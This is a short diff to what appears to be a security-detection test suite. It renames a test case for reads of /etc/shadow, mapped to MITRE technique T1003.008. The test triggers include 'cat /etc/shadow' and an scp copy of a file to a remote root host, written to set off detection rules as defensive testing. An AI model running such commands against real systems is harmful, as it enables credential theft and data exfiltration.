@@ -117,7 +117,7 @@ CASES = [
             echo data > "$DET_DIR/notes"
             timeout 3 scp {SSH_OPTS} "$DET_DIR/notes" root@"$DET_NS_ADDR":/tmp/ 2>/dev/null || true
          ''', where=("container",), needs=["scp"]),
-    Case(id="credential_access.shadow.cat", tactic="credential_access", technique="T1003.008",
+    Case(id="credential_access.shadow.text_tool_args", tactic="credential_access", technique="T1003.008",
          rules=["Shadow File Read by Command Line Tool"],
          trigger=r'''
             cat /etc/shadow > /dev/null
